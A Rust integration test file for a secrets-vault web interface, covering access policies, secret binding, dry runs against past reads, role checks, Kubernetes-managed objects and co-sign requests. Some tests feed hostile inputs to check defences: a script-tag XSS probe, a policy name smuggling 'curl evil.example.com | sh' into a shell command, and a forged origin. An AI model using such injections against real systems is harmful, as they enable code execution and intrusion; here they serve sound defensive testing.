//! The pages of access policies, of co-sign requests and of what Kubernetes manages, from a click to what a machine reads.

use sikkerkey_protocol::account::Role;
use sikkerkey_protocol::kubernetes::ObjectKey;
use sikkerkey_protocol::policy::{Approver, CoSign, PolicyDocument};
use sikkerkey_server::clock::Clock as _;
use sikkerkey_server::model::Entity;
use sikkerkey_server::model::account::{Account, Standing};
use sikkerkey_server::model::fleet::{Fleet, FleetSubject};
use sikkerkey_server::model::grant::Grant;
use sikkerkey_server::model::machine::Grantee;
use sikkerkey_server::model::member::Member;
use sikkerkey_server::model::policy::Policy;
use sikkerkey_server::model::project::Project;
use sikkerkey_server::model::secret::Secret;

use crate::browser::{Browser, HOME, PASSWORD, give_password};
use crate::fixture::*;

const POLICIES: &str = "/vaults/vault_v/policies";

/// A vault with a project of people, `apps`, with secrets `token` and `api` that the host is granted; and a browser of its owner.
struct Scene {
    server: Server,
    owner: Browser,
    apps: String,
}

impl Scene {
    async fn new() -> Self {
        let server = Server::new().await;
        give_password(&server).await;
        let project = Project { namespace: None, ..server.project("apps") };
        let apps = project.id.to_string();
        for entity in [Entity::Project(project), Entity::Machine(host()), Entity::Membership(member("apps"))] {
            server.put(entity).await;
        }
        for name in ["token", "api"] {
            server.put_secret(Secret { managed: None, ..secret(name, "apps") }, "hunter2").await;
        }
        let grant = grant(7, Grantee::Machine(host().id), &["sk_token", "sk_api"]);
        server.put(Entity::Grant(Grant { project: apps.parse().unwrap(), ..grant })).await;
        let owner = Browser::at(HOME);
        assert_eq!(owner.log_in(&server, PASSWORD).await.status, 200);
        Self { server, owner, apps }
    }

    async fn page(&self, target: &str) -> String {
        let answer = self.owner.page(&self.server, target).await;
        assert_eq!(answer.status, 200, "{target}: {}", answer.text());
        answer.text().to_owned()
    }

    /// A form that ends on another page: where.
    async fn goes(&self, target: &str, fields: &[(&str, &str)]) -> String {
        let answer = self.owner.form(&self.server, target, fields).await;
        assert_eq!(answer.status, 303, "{target}: {}", answer.text());
        answer.headers["location"].to_str().unwrap().to_owned()
    }

    /// A form that shows a page.
    async fn shows(&self, target: &str, fields: &[(&str, &str)]) -> String {
        let answer = self.owner.form(&self.server, target, fields).await;
        assert_eq!(answer.status, 200, "{target}: {}", answer.text());
        answer.text().to_owned()
    }

    async fn reads(&self, secret: &str) -> u16 {
        self.server.get(&Client::host(), &format!("/v1/secret/{secret}")).await.status.as_u16()
    }

    /// A policy that lets nobody in who is not at the other end of the world. Answers its address.
    async fn create(&self) -> String {
        let fields = [
            ("project", self.apps.as_str()),
            ("name", "office"),
            ("addresses", "on"),
            ("range", "203.0.113.0/24"),
            ("range", ""),
        ];
        let to = self.goes(POLICIES, &fields).await;
        let policy = to.strip_suffix("?said=policy-created").expect(&to);
        assert!(policy.starts_with("/vaults/vault_v/policies/"), "{to}");
        policy.to_owned()
    }

    /// The browser of somebody with another role.
    async fn other(&self, role: Option<Role>) -> Browser {
        let now = self.server.clock.now();
        let account = Account { id: "eve".into(), email: "eve@example.com".into(), standing: Standing::Active };
        self.server.put(Entity::Account(account)).await;
        if let Some(role) = role {
            let vault = "vault_v".parse().unwrap();
            self.server.put(Entity::Member(Member { vault, account: "eve".into(), role, since: now })).await;
        }
        Browser::of(&self.server, "eve").await
    }
}

#[tokio::test]
async fn a_policy_is_written_bound_and_taken_off_and_machines_feel_it_at_once() {
    let scene = Scene::new().await;
    assert!(scene.page(POLICIES).await.contains("No access policies yet"));
    assert_eq!(scene.reads("sk_token").await, 200);
    let policy = scene.create().await;
    let shown = scene.page(&policy).await;
    assert!(shown.contains("from 203.0.113.0/24") && shown.contains("It guards nothing yet"), "{shown}");
    let candidates = scene.page(&format!("{policy}/bind")).await;
    assert!(candidates.contains("token") && candidates.contains("api"), "{candidates}");
    let to = scene.goes(&format!("{policy}/bind"), &[("secret", "sk_token")]).await;
    assert_eq!(to, format!("{policy}?said=policy-bound"));
    assert_eq!((scene.reads("sk_token").await, scene.reads("sk_api").await), (403, 200));

    let listed = scene.page(POLICIES).await;
    assert!(listed.contains("office") && listed.contains("apps"), "{listed}");
    assert!(listed.contains(r#"<td class="number">1</td>"#), "one secret, one denial: {listed}");
    let elsewhere = scene.page(&format!("{POLICIES}?q=nothing")).await;
    assert!(elsewhere.contains("No policy is like that"), "{elsewhere}");

    let unbind = format!("{policy}/secrets/sk_token/unbind");
    let warned = scene.page(&unbind).await;
    assert!(warned.contains("Without it these would read the secret") && warned.contains("machine "), "{warned}");
    assert_eq!(scene.goes(&unbind, &[]).await, format!("{policy}?said=policy-unbound"));
    assert_eq!(scene.reads("sk_token").await, 200);
    assert_eq!(scene.goes(&format!("{policy}/delete"), &[]).await, format!("{POLICIES}?said=policy-deleted"));
    assert_eq!(scene.owner.page(&scene.server, &policy).await.status, 404);
}

#[tokio::test]
async fn what_is_wrong_stands_beside_its_field_and_everything_that_was_typed_is_there_again() {
    let scene = Scene::new().await;
    let fields = [
        ("project", scene.apps.as_str()),
        ("name", "<script>alert(1)</script>"),
        ("description", "typed & kept"),
        ("time_window", "on"),
        ("day", "mon"),
        ("day", "fri"),
        ("start", "25:00"),
        ("end", "06:00"),
        ("zone", "Europe/Oslo"),
        ("range", "10.0.0.0/8"),
        ("most_reads", "7"),
    ];
    // With the button that saves, and with what the script sends while one types.
    for target in [POLICIES.to_owned(), format!("{POLICIES}/check")] {
        let shown = scene.shows(&target, &fields).await;
        let wrong = r#"<p class="error" id="start-error" data-checked>Opens at is 25:00, which is no time: write HH:mm, such as 08:00</p>"#;
        assert!(shown.contains(wrong), "{shown}");
        assert!(shown.contains(r#"<p class="error" id="end-error" data-checked></p>"#), "{shown}");
        for kept in [
            r#"value="&lt;script&gt;alert(1)&lt;/script&gt;""#,
            "typed &amp; kept</textarea>",
            r#"value="Europe/Oslo" list="zones""#,
            r#"name="day" value="mon" checked"#,
            r#"name="day" value="fri" checked"#,
            r#"value="10.0.0.0/8""#,
            r#"name="most_reads" value="7""#,
        ] {
            assert!(shown.contains(kept), "{kept}: {shown}");
        }
        assert!(!shown.contains("<script>alert"), "{shown}");
    }
    assert!(scene.server.engine.app.live.read().state.policies.is_empty());
    // Another row, without a script.
    let rows = scene
        .shows(&format!("{POLICIES}/check"), &[("act", "row"), ("range", "10.0.0.0/8"), ("range", "fd00::/8")])
        .await;
    assert!(rows.contains(r#"id="range-2""#) && !rows.contains(r#"id="range-3""#), "{rows}");
    assert!(rows.contains(r#"value="fd00::/8""#), "{rows}");
}

#[tokio::test]
async fn a_draft_is_tried_on_last_week_before_it_is_saved() {
    let scene = Scene::new().await;
    for _ in 0..3 {
        assert_eq!(scene.reads("sk_token").await, 200);
    }
    let nobody = [
        ("project", scene.apps.as_str()),
        ("name", "office"),
        ("addresses", "on"),
        ("range", "203.0.113.0/24"),
        ("act", "past"),
    ];
    let tried = scene.shows(&format!("{POLICIES}/check"), &nobody).await;
    assert!(tried.contains("<strong>3</strong> of the reads would have been denied."), "{tried}");
    assert!(
        tried.contains("is in none of the policy&#39;s CIDRs") || tried.contains("is in none of the policy's CIDRs"),
        "{tried}"
    );
    // Of a policy in force: what it denied, and a wider one would let through.
    let policy = scene.create().await;
    scene.goes(&format!("{policy}/bind"), &[("secret", "sk_token")]).await;
    assert_eq!(scene.reads("sk_token").await, 403);
    let wider = [("name", "office"), ("most_reads", "1000"), ("act", "past")];
    let tried = scene.shows(&format!("{policy}/check"), &wider).await;
    assert!(tried.contains("<strong>1</strong> of the denials would have been let through."), "{tried}");
    assert!(tried.contains("It lets through what the present one refuses"), "{tried}");
    assert!(tried.contains("the list of addresses would be gone"), "{tried}");
    assert_eq!(scene.reads("sk_token").await, 403, "nothing was saved");
    let to = scene.goes(&policy, &[("name", "office"), ("revision", "1"), ("most_reads", "1000")]).await;
    assert_eq!(to, format!("{policy}?said=policy-saved"));
    assert_eq!(scene.reads("sk_token").await, 200);
    // Whoever opened the editor before that overwrites nothing.
    let late = scene.shows(&policy, &[("name", "office"), ("revision", "1"), ("most_reads", "5")]).await;
    assert!(late.contains("you saw revision 1, and it is revision 2 now"), "{late}");
}

#[tokio::test]
async fn a_policy_that_guards_something_goes_only_with_a_word_for_it() {
    let scene = Scene::new().await;
    let policy = scene.create().await;
    scene.goes(&format!("{policy}/bind"), &[("secret", "sk_token")]).await;
    let delete = format!("{policy}/delete");
    let warned = scene.page(&delete).await;
    assert!(warned.contains("It guards 1 secret") && warned.contains("Take it off all of them"), "{warned}");
    let refused = scene.owner.form(&scene.server, &delete, &[]).await;
    assert_eq!(refused.status, 409, "{}", refused.text());
    assert!(refused.text().contains("Policy office guards sk_token"), "{}", refused.text());
    assert_eq!(scene.reads("sk_token").await, 403);
    // What came under it since the page was shown is not let go unseen.
    scene.goes(&format!("{policy}/bind"), &[("secret", "sk_api"), ("was", "")]).await;
    let shown = |page: &str| ["revision", "guards"].map(|it| hidden(page, it));
    let [revision, guards] = shown(&warned);
    let fields = [("release", "yes"), ("revision", revision.as_str()), ("guards", guards.as_str())];
    let stale = scene.owner.form(&scene.server, &delete, &fields).await;
    assert_eq!(stale.status, 409, "{}", stale.text());
    assert!(stale.text().contains("guards others than you saw: open the page again"), "{}", stale.text());
    assert_eq!((scene.reads("sk_token").await, scene.reads("sk_api").await), (403, 403));
    let [revision, guards] = shown(&scene.page(&delete).await);
    let fields = [("release", "yes"), ("revision", revision.as_str()), ("guards", guards.as_str())];
    assert_eq!(scene.goes(&delete, &fields).await, format!("{POLICIES}?said=policy-deleted"));
    assert_eq!((scene.reads("sk_token").await, scene.reads("sk_api").await), (200, 200));
}

/// What stands in a field that is not seen.
fn hidden(page: &str, name: &str) -> String {
    let before = format!("name=\"{name}\" value=\"");
    let (_, rest) = page.split_once(&before).unwrap_or_else(|| panic!("no {name} in {page}"));
    rest.split_once('"').unwrap().0.to_owned()
}

#[tokio::test]
async fn the_command_that_lifts_a_protection_has_the_name_as_one_word() {
    let scene = Scene::new().await;
    let document = PolicyDocument { ip_allowlist: Some(vec!["10.0.0.0/8".into()]), ..PolicyDocument::default() };
    let hostile = Policy { name: "x; curl 'evil.example.com' | sh".into(), protected: true, ..policy(document) };
    scene.server.put(Entity::Policy(hostile.clone())).await;
    let shown = scene.page(&format!("{POLICIES}/{}", hostile.id)).await;
    let (_, rest) = shown.split_once("policy unprotect").unwrap();
    let command = rest.split_once("</code>").unwrap().0.replace("&#39;", "'");
    assert!(command.ends_with(r"--name 'x; curl '\''evil.example.com'\'' | sh'"), "{command}");
}

#[tokio::test]
async fn whoever_may_only_look_is_offered_nothing_to_change_and_strangers_find_nothing() {
    let scene = Scene::new().await;
    let policy = scene.create().await;
    let auditor = scene.other(Some(Role::Auditor)).await;
    for target in [POLICIES, policy.as_str(), "/vaults/vault_v/co-signs", "/vaults/vault_v/kubernetes"] {
        let answer = auditor.page(&scene.server, target).await;
        assert_eq!(answer.status, 200, "{target}");
        for offer in ["New policy", "/edit", "/delete", "/bind"] {
            assert!(!answer.text().contains(offer), "{target} offers {offer}");
        }
    }
    for (target, fields) in [
        (POLICIES.to_owned(), vec![("name", "x")]),
        (format!("{policy}/delete"), vec![]),
        (format!("{policy}/check"), vec![]),
    ] {
        let answer = auditor.form(&scene.server, &target, &fields).await;
        assert_eq!(answer.status, 403, "{target}: {}", answer.text());
        assert!(answer.text().contains("This needs the role manager"), "{}", answer.text());
    }
    let mut foreign = Browser::at(HOME);
    foreign.set_token(scene.owner.token());
    foreign.origin = "https://evil.example.com";
    assert_eq!(foreign.form(&scene.server, &format!("{policy}/delete"), &[]).await.status, 403);
    let scene = Scene::new().await;
    let policy = scene.create().await;
    let stranger = scene.other(None).await;
    for target in [POLICIES, policy.as_str(), "/vaults/vault_v/co-signs", "/vaults/vault_v/kubernetes"] {
        let answer = stranger.page(&scene.server, target).await;
        assert_eq!(answer.status, 404, "{target}");
        assert!(!answer.text().contains("office"), "{}", answer.text());
    }
}

#[tokio::test]
async fn what_kubernetes_manages_is_listed_with_its_manifest_and_changed_there() {
    let scene = Scene::new().await;
    let document = PolicyDocument { ip_allowlist: Some(vec!["10.0.0.0/8".into()]), ..PolicyDocument::default() };
    let managed_policy = Policy { managed: Some(managed("shop", "guard")), ..policy(document) };
    scene.server.put(Entity::Policy(managed_policy.clone())).await;
    let all = scene.page("/vaults/vault_v/kubernetes").await;
    for text in [
        "shop",
        "AccessPolicy",
        "kind: AccessPolicy",
        "apiVersion: sikkerkey.com/v1alpha1",
        "edit skp/guard",
        "ipAllowlist: {cidrs: [",
    ] {
        assert!(all.contains(text), "{text}: {all}");
    }
    let only = scene.page("/vaults/vault_v/kubernetes?kind=AccessPolicy&namespace=shop&q=gua").await;
    assert!(only.contains("edit skp/guard") && !only.contains("edit skm/"), "{only}");
    let none = scene.page("/vaults/vault_v/kubernetes?namespace=elsewhere").await;
    assert!(none.contains("No object is like that"), "{none}");
    let own = format!("{POLICIES}/{}", managed_policy.id);
    let shown = scene.page(&own).await;
    assert!(shown.contains("Managed by Kubernetes") && !shown.contains("/edit\""), "{shown}");
    assert!(scene.page(&format!("{own}/edit")).await.contains("Managed by Kubernetes"));
    let kept = scene.shows(&own, &[("name", "guard"), ("most_reads", "3")]).await;
    assert!(kept.contains("Managed by Kubernetes"), "{kept}");
    assert_eq!(
        scene.server.engine.app.live.read().state.policies[&managed_policy.id].document,
        managed_policy.document
    );
    let refused = scene.owner.form(&scene.server, &format!("{own}/delete"), &[]).await;
    assert_eq!(refused.status, 409);
    assert!(refused.text().contains("stands for it: edit or delete that object"), "{}", refused.text());
}

#[tokio::test]
async fn a_read_that_waits_stands_there_with_the_command_that_answers_it() {
    let scene = Scene::new().await;
    let empty = scene.page("/vaults/vault_v/co-signs").await;
    assert!(empty.contains("Nothing waits for a co-signer"), "{empty}");
    let boss = Fleet { id: uuid(0xf2).parse().unwrap(), managed: managed("hq", "boss"), ..fleet() };
    let approver = Approver::Object(ObjectKey { namespace: "hq".into(), name: "boss".into() });
    let document =
        PolicyDocument { co_sign: Some(CoSign { approver, window_seconds: 600 }), ..PolicyDocument::default() };
    let guard = Policy { managed: Some(managed("shop", "guard")), ..policy(document) };
    scene.server.put(Entity::Fleet(Fleet { subject: boss_accounts(), ..boss })).await;
    scene.server.put(Entity::Policy(guard.clone())).await;
    scene.server.put_secret(Secret { policy: Some(guard.name.clone()), ..secret("key", "shop") }, "hunter2").await;
    scene.server.put(Entity::Grant(grant(8, Grantee::Fleet(fleet().id), &["sk_key"]))).await;
    let refused = scene.server.get(&Client::pod(), "/v1/secret/sk_key").await;
    assert_eq!(refused.status, 403, "{}", refused.text());
    let shown = scene.page("/vaults/vault_v/co-signs").await;
    let id = scene.server.engine.app.live.read().state.co_signs.values().next().unwrap().id.clone();
    for text in [
        format!("kubectl sikkerkey cosign approve {id} --for 30m"),
        "0 of 1".into(),
        "by any machine of Machine hq/boss".into(),
        "good for 10 min".into(),
        "One read waits for its co-signer.".into(),
        "data-live".into(),
    ] {
        assert!(shown.contains(&text), "{text}: {shown}");
    }
    assert!(scene.page("/vaults/vault_v/co-signs?q=nobody").await.contains("No request is like that"));
    let listed = scene.page(POLICIES).await;
    assert!(listed.contains(r#"<span class="badge">1</span>"#), "{listed}");
}

fn boss_accounts() -> FleetSubject {
    FleetSubject::Workload {
        service_accounts: vec!["boss".into()],
        lifetime_seconds: 3600,
        delivery: std::sync::Arc::new(delivery(&["key"])),
        delivery_revision: "rev1".into(),
    }
}
